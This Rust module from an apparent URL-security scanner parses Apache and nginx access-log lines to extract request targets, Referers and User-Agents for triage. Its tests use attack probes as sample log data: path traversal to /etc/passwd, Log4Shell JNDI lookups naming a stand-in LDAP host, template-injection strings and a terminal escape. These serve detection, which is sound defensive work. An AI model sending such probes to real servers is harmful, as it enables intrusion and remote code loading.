//! Access logs in the Common and Combined Log Formats (Apache, nginx):
//! the request target of the quoted request line, and in the combined
//! format the `Referer` and `User-Agent` quoted after the status and the
//! size. A log's own escapes (`\xHH`, `\"`, `\\`) are undone, so the real
//! bytes are analysed. A `#` in a request target's query is data the
//! server was sent (a browser sends no fragment; nginx hands the whole
//! query to the application): it is analysed, and shown, as `%23`, so
//! that `GET /search?q=#{7*7}` is read as the query the server received.

use std::borrow::Cow;

/// The fields of an access-log line that `scan` reads, escapes undone
/// (borrowed from the line when it has none).
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Request<'a> {
    /// The request target (`/path?q`); `None` when the quoted request
    /// line holds no method (`"-"`, a TLS handshake sent to the HTTP
    /// port: scanners' lines, whose headers are still read).
    pub target: Option<Cow<'a, [u8]>>,
    /// The Referer, when the line is in the combined format and names one
    /// (not `-`).
    pub referer: Option<Cow<'a, [u8]>>,
    /// The User-Agent, likewise.
    pub agent: Option<Cow<'a, [u8]>>,
}

/// The request target of an access-log line: the middle of the quoted
/// request line `"GET /path?q HTTP/1.1"`.
///
/// Returns `None` when the line has no request line with a method.
pub fn request_target(line: &[u8]) -> Option<Cow<'_, [u8]>> {
    let (request, _) = quoted_after(line, 0)?;
    target_of(request).map(unescape_log).map(as_received)
}

/// The request target and, in the combined format, the two headers of an
/// access-log line: `None` when it has neither a request line with a
/// method nor a header to read.
///
/// The headers are only read when what follows the request line may hold
/// something [`urlscope_core::headers::text_header_warnings`] finds
/// (one test of the rest of the line, a log's `\` escapes included):
/// otherwise they are `None`, as on a line of the common format.
pub fn request(line: &[u8]) -> Option<Request<'_>> {
    let (request, after) = quoted_after(line, 0)?;
    let target = target_of(request).map(unescape_log).map(as_received);
    let rest = line.get(after..).unwrap_or_default();
    let read = urlscope_core::headers::may_warn(rest) || memchr::memchr(b'\\', rest).is_some();
    let (referer, agent) = read
        .then(|| headers_after(line, after))
        .flatten()
        .unwrap_or_default();
    fn named(field: &[u8]) -> Option<Cow<'_, [u8]>> {
        (field != b"-" && !field.is_empty()).then(|| unescape_log(field))
    }
    let (referer, agent) = (referer.and_then(named), agent.and_then(named));
    if target.is_none() && referer.is_none() && agent.is_none() {
        return None;
    }
    Some(Request {
        target,
        referer,
        agent,
    })
}

/// A line's Referer and User-Agent fields, escapes still in them.
type Headers<'a> = (Option<&'a [u8]>, Option<&'a [u8]>);

/// The combined format's Referer and User-Agent after the request line
/// (which ends at `from`): ` STATUS SIZE "referer" "agent"`, nothing
/// read unless the status and the size are there (a custom format's
/// fields are not guessed at).
fn headers_after(line: &[u8], from: usize) -> Option<Headers<'_>> {
    let rest = line.get(from..)?;
    let mut words = rest.splitn(3, |&b| b == b' ');
    let (gap, status, size) = (words.next()?, words.next()?, words.next()?);
    let size_end = size.iter().position(|&b| b == b' ')?;
    let size = size.get(..size_end)?;
    if !gap.is_empty()
        || status.len() != 3
        || !status.iter().all(u8::is_ascii_digit)
        || !(size == b"-" || !size.is_empty() && size.iter().all(u8::is_ascii_digit))
    {
        return None;
    }
    // The referer's opening quote right after the size's space.
    let referer_at = from + 1 + status.len() + 1 + size_end + 1;
    if line.get(referer_at) != Some(&b'"') {
        return None;
    }
    let (referer, after) = quoted_after(line, referer_at)?;
    let agent = match line.get(after..after + 2) {
        Some(b" \"") => quoted_after(line, after + 1).map(|(agent, _)| agent),
        _ => None,
    };
    Some((Some(referer), agent))
}

/// The body of the first quoted field at or after `from` and where its
/// closing quote ends; a quote escaped by a backslash is part of it. An
/// unclosed field runs to the line's end.
fn quoted_after(line: &[u8], from: usize) -> Option<(&[u8], usize)> {
    let open = from + memchr::memchr(b'"', line.get(from..)?)?;
    let rest = line.get(open + 1..)?;
    let mut i = 0;
    while let Some(at) = memchr::memchr2(b'"', b'\\', rest.get(i..).unwrap_or_default()) {
        i += at;
        if rest.get(i) == Some(&b'"') {
            return Some((rest.get(..i)?, open + 1 + i + 1));
        }
        i += 2;
    }
    Some((rest, line.len()))
}

/// The target of a request line `METHOD target [HTTP/x]`.
fn target_of(request: &[u8]) -> Option<&[u8]> {
    // Methods are case-sensitive, but a server logs the request it was
    // sent, and a probe in lower case (`get /../../etc/passwd`) is still
    // one to triage.
    let method_len = request
        .iter()
        .take_while(|b| b.is_ascii_alphabetic())
        .count();
    if method_len == 0 || request.get(method_len) != Some(&b' ') {
        return None;
    }
    let mut target = request.get(method_len + 1..)?;
    if let Some(p) = memchr::memmem::rfind(target, b" HTTP/") {
        target = target.get(..p)?;
    }
    Some(target)
}

/// A request target as the server reads it: each `#` after its first
/// `?` (query data, not a fragment) written `%23`.
fn as_received(target: Cow<'_, [u8]>) -> Cow<'_, [u8]> {
    let Some(query) = memchr::memchr(b'?', &target) else {
        return target;
    };
    let Some(first) = target
        .get(query..)
        .and_then(|q| memchr::memchr(b'#', q))
        .map(|at| query + at)
    else {
        return target;
    };
    let mut out = Vec::with_capacity(target.len() + 8);
    out.extend_from_slice(target.get(..first).unwrap_or_default());
    for &b in target.get(first..).unwrap_or_default() {
        match b {
            b'#' => out.extend_from_slice(b"%23"),
            b => out.push(b),
        }
    }
    Cow::Owned(out)
}

fn unescape_log(bytes: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memchr(b'\\', bytes).is_none() {
        return Cow::Borrowed(bytes);
    }
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        if b == b'\\' {
            match bytes.get(i + 1) {
                Some(b'x') => {
                    let hex = bytes.get(i + 2..i + 4).and_then(|h| {
                        Some(
                            urlscope_core::percent::hex_value(*h.first()?)? << 4
                                | urlscope_core::percent::hex_value(*h.get(1)?)?,
                        )
                    });
                    if let Some(v) = hex {
                        out.push(v);
                        i += 4;
                        continue;
                    }
                }
                Some(&c @ (b'"' | b'\\')) => {
                    out.push(c);
                    i += 2;
                    continue;
                }
                _ => {}
            }
        }
        out.push(b);
        i += 1;
    }
    Cow::Owned(out)
}

/// Whether a file looks like an access log: most of its first lines have a
/// `[date]` and a quoted request line.
pub fn looks_like_access_log(sample: &[Vec<u8>]) -> bool {
    let hits = sample
        .iter()
        .filter(|l| {
            let quote = memchr::memchr(b'"', l);
            let bracket = memchr::memchr(b'[', l);
            matches!((bracket, quote), (Some(b), Some(q)) if b < q) && request_target(l).is_some()
        })
        .count();
    !sample.is_empty() && hits * 2 > sample.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_targets_from_log_formats() {
        let combined = br#"203.0.113.9 - - [10/Oct/2024:13:55:36 -0700] "GET /a/%2e%2e/b?x=1 HTTP/1.1" 200 2326 "http://ref/" "Mozilla/5.0""#;
        assert_eq!(
            request_target(combined).as_deref(),
            Some(&b"/a/%2e%2e/b?x=1"[..])
        );
        let nginx_escaped = br#"1.2.3.4 - - [x] "GET /a\x1B[2J\x22b HTTP/1.0" 400 0"#;
        assert_eq!(
            request_target(nginx_escaped).as_deref(),
            Some(&b"/a\x1b[2J\"b"[..])
        );
        let apache_quote = br#"1.2.3.4 - - [x] "GET /a\"b HTTP/1.1" 200 1"#;
        assert_eq!(request_target(apache_quote).as_deref(), Some(&b"/a\"b"[..]));
        let http09 = br#"1.2.3.4 - - [x] "GET /old" 200 1"#;
        assert_eq!(request_target(http09).as_deref(), Some(&b"/old"[..]));
        let lower = br#"1.2.3.4 - - [x] "get /%2e%2e/etc/passwd HTTP/1.1" 400 0"#;
        assert_eq!(
            request_target(lower).as_deref(),
            Some(&b"/%2e%2e/etc/passwd"[..])
        );
        assert_eq!(request_target(br#"1.2.3.4 - - [x] "-" 400 0"#), None);
        // A '#' in the query is what the server was sent.
        let hash = br#"1.2.3.4 - - [x] "GET /search?q=#{7*7}&r=a#b HTTP/1.1" 200 1"#;
        assert_eq!(
            request_target(hash).as_deref(),
            Some(&b"/search?q=%23{7*7}&r=a%23b"[..])
        );
        let path = br#"1.2.3.4 - - [x] "GET /a#b HTTP/1.1" 200 1"#;
        assert_eq!(request_target(path).as_deref(), Some(&b"/a#b"[..]));
        assert_eq!(request_target(b"https://example.com/"), None);
    }

    #[test]
    fn the_combined_formats_headers() {
        let line = br#"203.0.113.9 - - [10/Oct/2024:13:55:36 -0700] "GET /a HTTP/1.1" 200 2326 "https://ref.example/p?q=1" "Mozilla/5.0 (X11) \"x\" \x24{jndi:ldap://e/a}""#;
        assert_eq!(
            request(line),
            Some(Request {
                target: Some(Cow::Borrowed(b"/a")),
                referer: Some(Cow::Borrowed(b"https://ref.example/p?q=1")),
                agent: Some(Cow::Owned(
                    b"Mozilla/5.0 (X11) \"x\" ${jndi:ldap://e/a}".to_vec()
                )),
            })
        );
        // `-` names none; a size of `-`; fields after the agent (nginx's
        // X-Forwarded-For) are left.
        let line = br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" 304 - "-" "curl/8 {{7*7}}" "10.0.0.1""#;
        let r = request(line).expect("a request");
        assert_eq!(r.referer, None);
        assert_eq!(r.agent.as_deref(), Some(&b"curl/8 {{7*7}}"[..]));
        // Headers that cannot hold a finding are not read.
        let line = br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" 200 1 "https://r.example/" "curl/8""#;
        let r = request(line).expect("a request");
        assert_eq!((r.referer, r.agent), (None, None));
        // The common format has none; a custom format's quoted fields
        // after something else are not guessed at.
        for line in [
            &br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" 200 1"#[..],
            br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" 200 1 0.003 "https://r.example/" "{{ua}}""#,
            br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" "https://r.example/" "{{ua}}""#,
            br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" 200 1 "https://r.example/{"#,
        ] {
            let r = request(line).expect("a request");
            assert_eq!(r.target.as_deref(), Some(&b"/a"[..]));
            assert_eq!(r.agent, None, "{}", String::from_utf8_lossy(line));
        }
        // A line with no request still has its headers read.
        let r = request(br#"1.2.3.4 - - [x] "-" 400 0 "-" "${jndi:ldap://e/d}""#).expect("headers");
        assert_eq!(r.target, None);
        assert_eq!(r.agent.as_deref(), Some(&b"${jndi:ldap://e/d}"[..]));
        assert_eq!(request(br#"1.2.3.4 - - [x] "-" 400 0 "-" "-""#), None);
        // An unclosed referer runs to the end; no agent after it.
        let r = request(br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" 200 1 "https://r.example/{"#)
            .expect("a request");
        assert_eq!(r.referer.as_deref(), Some(&b"https://r.example/{"[..]));
    }
}
